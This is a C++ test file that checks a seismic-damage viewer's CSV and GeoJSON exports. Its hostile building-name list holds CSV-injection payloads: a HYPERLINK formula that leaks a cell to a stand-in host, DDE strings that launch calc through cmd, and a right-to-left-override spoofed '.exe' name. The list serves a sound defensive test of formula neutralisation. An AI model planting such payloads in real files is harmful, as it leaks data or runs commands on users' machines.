#include <catch2/catch.hpp>

#include <simdjson.h>

#include <algorithm>
#include <string>
#include <vector>

#include "qv/core/Text.h"
#include "qv/scene/Export.h"
#include "qv/scene/ViewConsequences.h"

using namespace qv;

namespace {

// Names a hostile OpenStreetMap editor could give a building (CSV injection, CWE-1236, and
// text that breaks naive CSV or JSON writers).
const std::vector<std::string> kHostile = {
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Quote \"inside\", and a comma",
    "Two\nlines",
    "Right-to-left \xE2\x80\xAE"
    "fdp.exe\xE2\x80\xAC override",
    "Cin\xC3\xA9polis",
};

// RFC 4180 reader for the test (quoted fields with doubled quotes, CRLF records) of an export: it
// must begin with a UTF-8 byte-order mark, and a first line beginning with '#' is its comment.
std::vector<std::vector<std::string>> readCsv(const std::string& file) {
  REQUIRE(file.rfind("\xEF\xBB\xBF", 0) == 0);
  std::string text = file.substr(3);
  if (text.rfind('#', 0) == 0) text = text.substr(text.find("\r\n") + 2);
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false, inQuotes = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (inQuotes) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        inQuotes = false;
      } else {
        field += c;
      }
    } else if (c == '"' && field.empty() && !quoted) {
      inQuotes = quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
      quoted = false;
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(field);
      field.clear();
      quoted = false;
      rows.emplace_back();
      ++i;
    } else {
      REQUIRE(c != '"');  // a bare quote inside an unquoted field is not RFC 4180
      field += c;
    }
  }
  REQUIRE_FALSE(inQuotes);
  if (rows.back().empty() && field.empty()) rows.pop_back();
  return rows;
}

std::vector<BuildingListEntry> hostileList() {
  std::vector<BuildingListEntry> list;
  for (std::size_t i = 0; i < kHostile.size(); ++i) {
    BuildingListEntry b;
    b.id = "w" + std::to_string(100 + i);
    b.name = kHostile[i];
    b.address = kHostile[kHostile.size() - 1 - i];
    b.use = "office";
    b.damage = DamageState::Slight;
    b.peakDriftRatio = 0.0042f;
    b.peakRoofDisplacementM = 0.031f;
    b.pgaG = 0.21f;
    b.heightM = 24.0f;
    b.storeys = 7;
    b.x = -1234.5 - static_cast<double>(i);
    b.y = -250.25;
    list.push_back(b);
  }
  return list;
}

bool startsWithFormula(const std::string& field) {
  return !field.empty() && std::string("=+-@\t\r").find(field.front()) != std::string::npos;
}

// "midtown" under an ACTUAL ShakeMap (us7000abcd version 3), as the exports' provenance reads it.
Tileset actualShakeMapCity() {
  Tileset tileset;
  tileset.name = "midtown";
  ResponseInfo r;
  r.eventType = "ACTUAL";
  r.shakingField = "shakemap";
  r.method = "MDOF shear building, Bouc-Wen";
  r.shakemap = ResponseInfo::ShakeMap{};
  r.shakemap->eventId = "us7000abcd";
  r.shakemap->version = "3";
  r.shakemap->description = "M 5.8 - 10 km SW of Somewhere, NY";
  tileset.response = r;
  return tileset;
}

}  // namespace

TEST_CASE("CSV export: formula triggers are neutralised, text round-trips, numbers stay numbers", "[scene][export]") {
  const GeoFrame geo(-74.0, 40.7);
  const std::string csv = exportCsv(hostileList(), geo);
  REQUIRE(isValidUtf8(csv));
  const auto rows = readCsv(csv);
  REQUIRE(rows.size() == kHostile.size() + 1);
  const std::vector<std::string>& header = rows[0];
  REQUIRE(header.size() == 42);
  CHECK(header[1] == "name");
  CHECK(header[2] == "address");
  for (std::size_t i = 0; i < kHostile.size(); ++i) {
    const auto& row = rows[i + 1];
    REQUIRE(row.size() == header.size());
    for (const auto& [column, original] :
         {std::pair<std::size_t, std::string>{1, kHostile[i]}, {2, kHostile[kHostile.size() - 1 - i]}}) {
      INFO("column " << header[column] << ", original: " << original);
      const std::string& field = row[column];
      CHECK_FALSE(startsWithFormula(field));  // no spreadsheet takes it for a formula
      if (startsWithFormula(original)) {
        CHECK(field == "'" + original);  // the original text behind OWASP's apostrophe
      } else {
        CHECK(field == original);
      }
    }
    // Negative coordinates and every measure are plain numbers, not neutralised text.
    CHECK(row[13] == "-" + std::to_string(1234 + i) + ".50");
    CHECK(row[14] == "-250.25");
    CHECK(row[11].rfind("-74.0", 0) == 0);  // longitude west of Greenwich
    CHECK(row[6] == "0.004200");
  }
}

TEST_CASE("CSV and GeoJSON exports carry the site's shaking beside the record's PGA", "[scene][export]") {
  std::vector<BuildingListEntry> list = hostileList();
  list.resize(2);
  BuildingSite& site = list[0].site;  // a ShakeMap without MMI; list[1] has no field
  site.source = SiteSource::ShakeMap;
  site.pgaG = 0.304f;
  site.pgvCmS = 6.89f;
  site.psa03G = 0.281f;
  site.psa10G = 0.0762f;
  site.psa30G = 0.0148f;
  const auto rows = readCsv(exportCsv(list, GeoFrame(-74.0, 40.7)));
  REQUIRE(rows.size() == 3);
  const auto& header = rows[0];
  auto column = [&](std::string_view name) {
    const auto it = std::find(header.begin(), header.end(), name);
    REQUIRE(it != header.end());
    return static_cast<std::size_t>(it - header.begin());
  };
  CHECK(rows[1][column("pga_g")] == "0.2100");  // the scaled record's, unchanged
  CHECK(rows[1][column("site_source")] == "shakemap");
  CHECK(rows[1][column("site_pga_g")] == "0.3040");
  CHECK(rows[1][column("site_pgv_cms")] == "6.89");
  CHECK(rows[1][column("site_psa10_g")] == "0.0762");
  CHECK(rows[1][column("site_mmi")].empty());  // not in this ShakeMap: blank, not 0
  CHECK(rows[2][column("site_source")].empty());
  CHECK(rows[2][column("site_pga_g")].empty());

  simdjson::dom::parser parser;
  simdjson::dom::element root;
  REQUIRE(parser.parse(exportGeoJson(list, GeoFrame(-74.0, 40.7))).get(root) == simdjson::SUCCESS);
  simdjson::dom::array features;
  REQUIRE(root["features"].get(features) == simdjson::SUCCESS);
  std::vector<simdjson::dom::element> f(features.begin(), features.end());
  REQUIRE(f.size() == 2);
  double pga = 0.0;
  REQUIRE(f[0]["properties"]["site_shaking"]["pga_g"].get(pga) == simdjson::SUCCESS);
  CHECK(pga == Approx(0.304));
  CHECK(f[0]["properties"]["site_shaking"]["mmi"].is_null());
  CHECK(f[1]["properties"]["site_shaking"].is_null());
}

TEST_CASE("CSV export: a name with invalid UTF-8 arrives as U+FFFD, not as broken bytes", "[scene][export]") {
  BuildingListEntry b;
  b.id = "w1";
  b.name = "Caf\xE9 (Latin-1)";
  b.address = "=\xFF";
  const std::string csv = exportCsv(std::vector<BuildingListEntry>{b}, GeoFrame(-74.0, 40.7));
  REQUIRE(isValidUtf8(csv));
  const auto rows = readCsv(csv);
  REQUIRE(rows.size() == 2);
  CHECK(rows[1][1] == "Caf\xEF\xBF\xBD (Latin-1)");
  CHECK(rows[1][2] == "'=\xEF\xBF\xBD");
}

TEST_CASE("GeoJSON export of hostile names parses and gives the names back", "[scene][export]") {
  auto list = hostileList();
  list[0].name += "\xFF";  // and one invalid byte
  const std::string text = exportGeoJson(list, GeoFrame(-74.0, 40.7));
  REQUIRE(isValidUtf8(text));
  simdjson::dom::parser parser;
  simdjson::dom::element root;
  REQUIRE(parser.parse(text).get(root) == simdjson::SUCCESS);
  simdjson::dom::array features;
  REQUIRE(root["features"].get(features) == simdjson::SUCCESS);
  REQUIRE(features.size() == kHostile.size());
  std::size_t i = 0;
  for (simdjson::dom::element feature : features) {
    std::string_view name, address;
    REQUIRE(feature["properties"]["name"].get(name) == simdjson::SUCCESS);
    REQUIRE(feature["properties"]["address"].get(address) == simdjson::SUCCESS);
    CHECK(name == (i == 0 ? kHostile[0] + "\xEF\xBF\xBD" : kHostile[i]));
    CHECK(address == kHostile[kHostile.size() - 1 - i]);
    double lon = 0.0;
    REQUIRE(feature["geometry"]["coordinates"].at(0).get(lon) == simdjson::SUCCESS);
    CHECK(lon < -74.0);
    ++i;
  }
}

TEST_CASE("CSV export carries each building's HAZUS probabilities and consequences, blank without them",
          "[scene][export]") {
  BuildingListEntry with;
  with.id = "s1";
  with.damage = DamageState::Moderate;
  BuildingLoss loss;
  const float p[5] = {0.5f, 0.25f, 0.125f, 0.0625f, 0.0625f};
  for (std::size_t k = 0; k < 5; ++k) loss.structural[k] = p[k];
  loss.tag[0] = 0.75f;
  loss.tag[1] = 0.125f;
  loss.tag[2] = 0.125f;
  loss.occupants = 42.5f;
  loss.injuries[3] = 0.25f;
  loss.repairCostUsd = 125000.0f;
  loss.flags = kLossOccupantsInferred;
  with.loss = loss;
  BuildingListEntry without;
  without.id = "s2";
  const auto rows = readCsv(exportCsv(std::vector<BuildingListEntry>{with, without}, GeoFrame(-74.0, 40.7)));
  REQUIRE(rows.size() == 3);
  const auto column = [&](const std::string& name) {
    const auto at = std::find(rows[0].begin(), rows[0].end(), name);
    REQUIRE(at != rows[0].end());
    return static_cast<std::size_t>(at - rows[0].begin());
  };
  CHECK(rows[1][column("p_moderate")] == "0.12500");
  CHECK(rows[1][column("expected_damage_state")] == "0.9375");  // 0.25 + 2 x 0.125 + 3 x 0.0625 + 4 x 0.0625
  CHECK(rows[1][column("p_tag_red")] == "0.12500");
  CHECK(rows[1][column("occupants")] == "42.50");
  CHECK(rows[1][column("occupants_inferred")] == "1");
  CHECK(rows[1][column("value_inferred")] == "0");
  CHECK(rows[1][column("deaths")] == "0.25000");
  CHECK(rows[1][column("repair_cost_usd")] == "125000");
  REQUIRE(rows[2].size() == rows[0].size());
  CHECK(rows[2][column("p_moderate")].empty());  // unknown, not zero
  CHECK(rows[2][column("repair_cost_usd")].empty());
}

TEST_CASE("The view's consequence sums: exact expected values, a normal 90 % interval, and the totals CSV",
          "[scene][export]") {
  ConsequenceSums sums;
  BuildingLoss a;
  a.structural[0] = 0.5f;
  a.structural[2] = 0.5f;
  a.tag[0] = 0.5f;
  a.tag[1] = 0.5f;
  a.repairCostUsd = 1000.0f;
  a.repairCostStdUsd = 300.0f;
  a.occupants = 10.0f;
  for (int i = 0; i < 4; ++i) sums.add(a);
  const seismic::LossTotals t = sums.totals();
  CHECK(t.buildings == 4);
  CHECK(t.damageStates[2].expected == Approx(2.0));
  // Four Bernoulli(0.5): sigma = sqrt(4 * 0.25) = 1, interval 2 -+ 1.645.
  CHECK(t.damageStates[2].low == Approx(2.0 - 1.6448536));
  CHECK(t.damageStates[2].high == Approx(2.0 + 1.6448536));
  CHECK(t.repairCostUsd.expected == Approx(4000.0));
  CHECK(t.repairCostUsd.high == Approx(4000.0 + 1.6448536 * 600.0));
  CHECK(t.occupants.expected == Approx(40.0));
  CHECK(t.damageStates[4].high == 0.0);  // nothing possible, nothing in the interval
  seismic::ConsequenceTotals file;
  file.timeOfDay = "night";
  file.city = t;
  file.districts.push_back({"=Downtown", t, {}});
  const ViewArea area{-74.0123, 40.7012, -73.98115, 40.72513};
  const auto rows = readCsv(exportConsequencesCsv(file, &t, nullptr, &area));
  REQUIRE(rows.size() == 4);
  CHECK(rows[1][0] == "city");
  CHECK(rows[2][0] == "view");
  CHECK(rows[3][0] == "district");
  CHECK(rows[3][1] == "'=Downtown");  // a district name cannot run a formula
  CHECK(rows[1][2] == "4");
  CHECK(rows[1][3] == "night");
  // The view row says which ground it covers, in its area and in the bounds columns.
  const auto& header = rows[0];
  REQUIRE(header.size() == 4 + 15 * 3 + 4);
  CHECK(header[header.size() - 4] == "west");
  CHECK(header.back() == "north");
  CHECK(rows[2][1] == "lon -74.01230..-73.98115, lat 40.70120..40.72513");
  CHECK(rows[2][header.size() - 4] == "-74.012300");
  CHECK(rows[2][header.size() - 1] == "40.725130");
  CHECK(rows[1][header.size() - 4].empty());  // the city and the districts: blank
  CHECK(rows[3].back().empty());
  for (const auto& row : rows) CHECK(row.size() == header.size());
}

TEST_CASE("Exports say where their numbers came from and leave missing values blank", "[scene][export]") {
  Tileset tileset = actualShakeMapCity();
  tileset.response->records = {"RSN1 ELCENTRO, 180", "synthetic seed 2"};
  tileset.response->timeOfDay = "day";
  BuildingFilters filters;
  filters.minDamage = 2;
  filters.use = "school";
  const ExportProvenance provenance = exportProvenance(tileset, filters);
  CHECK(provenance.shaking == "ACTUAL EVENT (ShakeMap of a recorded earthquake)");
  CHECK(provenance.filter == "damage at least moderate | use: school");

  BuildingListEntry analysed = hostileList().back();
  BuildingListEntry none;
  none.id = "w2";
  none.name = "Rooftop part";
  none.heightM = 4.0f;
  const std::vector<BuildingListEntry> list = {analysed, none};
  const GeoFrame geo(-73.98, 40.75);

  const std::string csv = exportCsv(list, geo, &provenance);
  const std::string comment = csv.substr(3, csv.find("\r\n") - 3);
  CHECK(comment.rfind("# QuakeView building list | City: midtown | Shaking: ACTUAL EVENT", 0) == 0);
  CHECK(comment.find("ShakeMap us7000abcd version 3 (M 5.8 - 10 km SW of Somewhere  NY)") != std::string::npos);
  CHECK(comment.find("Records: RSN1 ELCENTRO  180; synthetic seed 2") != std::string::npos);
  CHECK(comment.find("Filter: damage at least moderate | use: school") != std::string::npos);
  CHECK(comment.find(',') == std::string::npos);  // one line that a spreadsheet keeps in one cell
  const auto rows = readCsv(csv);
  REQUIRE(rows.size() == 3);
  const auto column = [&rows](const std::string& name) {
    return static_cast<std::size_t>(std::find(rows[0].begin(), rows[0].end(), name) - rows[0].begin());
  };
  CHECK(rows[1][0] == "w" + std::to_string(100 + kHostile.size() - 1));
  CHECK(rows[1][1] == "Cin\xC3\xA9polis");
  CHECK(rows[1][column("pga_g")] == "0.2100");
  for (const char* name : {"peak_drift_ratio", "peak_roof_displacement_m", "pga_g", "storeys", "p_none"}) {
    INFO(name);
    CHECK(rows[2][column(name)].empty());
  }
  CHECK(rows[2][column("height_m")] == "4.0");

  // Without a provenance the file still starts with the byte-order mark, then the header row.
  CHECK(exportCsv(list, geo).rfind("\xEF\xBB\xBFid,name,", 0) == 0);

  const std::string json = exportGeoJson(list, geo, &provenance);
  simdjson::dom::parser parser;
  simdjson::dom::element doc;
  REQUIRE(parser.parse(json).get(doc) == simdjson::SUCCESS);
  std::string_view shaking, city;
  REQUIRE(doc["quakeview"]["shaking"].get(shaking) == simdjson::SUCCESS);
  REQUIRE(doc["quakeview"]["city"].get(city) == simdjson::SUCCESS);
  CHECK(shaking.rfind("ACTUAL EVENT", 0) == 0);
  CHECK(city == "midtown");
  simdjson::dom::array features;
  REQUIRE(doc["features"].get(features) == simdjson::SUCCESS);
  REQUIRE(features.size() == 2);
  for (const simdjson::dom::element feature : features) {
    std::string_view id;
    REQUIRE(feature["properties"]["id"].get(id) == simdjson::SUCCESS);
    const bool noResult = id == "w2";
    CHECK(feature["properties"]["pga_g"].is_null() == noResult);
    CHECK(feature["properties"]["storeys"].is_null() == noResult);
  }
}

TEST_CASE("Without a response an export says so, and an unstated event type is never called a scenario",
          "[scene][export]") {
  Tileset tileset;
  CHECK(exportProvenance(tileset, BuildingFilters{}).shaking == "no response computed");
  CHECK(exportProvenance(tileset, BuildingFilters{}).filter == "none");
  ResponseInfo imported;
  imported.method = "imported from results.csv";
  CHECK(shakingStatement(imported).rfind("IMPORTED RESULTS", 0) == 0);
  ResponseInfo shakemapUnstated;
  shakemapUnstated.shakingField = "shakemap";
  CHECK(shakingStatement(shakemapUnstated).rfind("NOT STATED", 0) == 0);
  ResponseInfo computed;
  CHECK(shakingStatement(computed) == "SCENARIO (computed, not a recorded event)");
}

TEST_CASE("Export file names carry the city, the event, what they hold and the filter", "[scene][export]") {
  Tileset tileset;
  tileset.name = "Synthetic city, 100000 buildings";
  CHECK(exportFileName(tileset, BuildingFilters{}, "buildings", "csv") ==
        "quakeview-synthetic-city-100000-buildings-no-response-buildings.csv");
  ResponseInfo r;
  tileset.response = r;
  BuildingFilters filters;
  filters.minDamage = 3;
  filters.use = "fire_station";
  filters.criticalOnly = true;
  CHECK(exportFileName(tileset, filters, "buildings", "geojson") ==
        "quakeview-synthetic-city-100000-buildings-scenario-buildings-damage-extensive-use-fire-station-critical."
        "geojson");
  BuildingFilters several;
  several.use = "hospital+school+fire_station";
  several.categories =
      facilityCategoryBit(FacilityCategory::HighOccupancy) | facilityCategoryBit(FacilityCategory::Hazardous);
  CHECK(exportFileName(tileset, several, "buildings", "csv") ==
        "quakeview-synthetic-city-100000-buildings-scenario-buildings-use-hospital-school-fire-station-facility-high-"
        "occupancy-hazardous.csv");
  CHECK(describeFilters(several) == "use: hospital or school or fire_station | facility: high occupancy or hazardous");
  BuildingFilters critical;
  critical.criticalOnly = true;
  CHECK(describeFilters(critical) == "critical facilities only (essential or school/shelter)");
  CHECK(exportProvenance(tileset, several).filter == describeFilters(several));
  BuildingFilters likely;
  likely.probabilityState = 2;
  likely.minProbabilityPercent = 10;
  CHECK(describeFilters(likely) == "P(damage at least moderate) at least 10 %");
  CHECK(exportFileName(tileset, likely, "buildings", "csv") ==
        "quakeview-synthetic-city-100000-buildings-scenario-buildings-p-moderate-10pct.csv");
  tileset.name = "midtown";
  tileset.response->eventType = "ACTUAL";
  tileset.response->shakingField = "shakemap";
  tileset.response->shakemap = ResponseInfo::ShakeMap{};
  tileset.response->shakemap->eventId = "us7000ABCD";
  CHECK(exportFileName(tileset, BuildingFilters{}, "consequences", "csv") ==
        "quakeview-midtown-actual-us7000abcd-consequences.csv");
  tileset.name = std::string(400, 'x');
  const std::string longName = exportFileName(tileset, filters, "buildings", "csv");
  CHECK(longName.size() == 150 + 4);
  CHECK(longName.rfind("quakeview-xxx", 0) == 0);
}

TEST_CASE("Exports call only essential facilities, schools and shelters critical, never a tall tower",
          "[scene][export]") {
  BuildingListEntry tower;  // an old search index stored "critical" for its height
  tower.id = "w1";
  tower.use = "office";
  tower.importance = Importance::Critical;
  tower.facility = FacilityCategory::None;
  BuildingListEntry school;
  school.id = "w2";
  school.use = "school";
  school.facility = FacilityCategory::SchoolShelter;
  const std::vector<BuildingListEntry> list = {tower, school};
  const GeoFrame geo(-73.98, 40.75);
  const std::string csv = exportCsv(list, geo);
  CHECK(csv.find("w1,,,office,general,") != std::string::npos);
  CHECK(csv.find("w2,,,school,critical,") != std::string::npos);
  const std::string geojson = exportGeoJson(list, geo);
  CHECK(geojson.find("\"importance\":\"general\",\"facility\":\"none\"") != std::string::npos);
  CHECK(geojson.find("\"importance\":\"critical\",\"facility\":\"school_shelter\"") != std::string::npos);
}

TEST_CASE("A picture of the view carries the event, the city, the time, the filters and the attribution",
          "[scene][export]") {
  Tileset tileset = actualShakeMapCity();
  tileset.sources = {"nyc-manhattan-south-buildings.osm.pbf"};
  BuildingFilters filters;
  filters.minDamage = 2;
  const ImageCaption c = imageCaption(tileset, filters, 12.04, 38.0);
  REQUIRE(c.lines.size() == 3);
  CHECK(c.actual);
  CHECK(c.lines[0] ==
        "Shaking: ACTUAL EVENT (ShakeMap of a recorded earthquake) | Earthquake: ShakeMap us7000abcd version 3 "
        "(M 5.8 - 10 km SW of Somewhere, NY)");
  CHECK(c.lines[1] == "City: midtown | Time: 12.0 s of 38.0 s | Filter: damage at least moderate");
  CHECK(c.lines[2] ==
        "QuakeView (MDOF shear building, Bouc-Wen): patterns across a city, not a safety assessment | Map data © "
        "OpenStreetMap contributors (ODbL)");
  CHECK(c.fileName == exportFileName(tileset, filters, "view", "png"));
  CHECK(c.fileName.ends_with("-view-damage-moderate.png"));
  // A scenario on a synthetic city: no map data to attribute.
  tileset.sources = {"synth-city --buildings 3000 --seed 3"};
  tileset.response->eventType = "SCENARIO";
  const ImageCaption synthetic = imageCaption(tileset, BuildingFilters{}, 0.0, 30.0);
  CHECK_FALSE(synthetic.actual);
  CHECK(synthetic.lines[0].starts_with("Shaking: SCENARIO"));
  CHECK(synthetic.lines[2].find("OpenStreetMap") == std::string::npos);
  // Without a response the picture says so.
  tileset.response.reset();
  CHECK(imageCaption(tileset, BuildingFilters{}, 0.0, 0.0).lines[0] == "Shaking: no response computed");
}
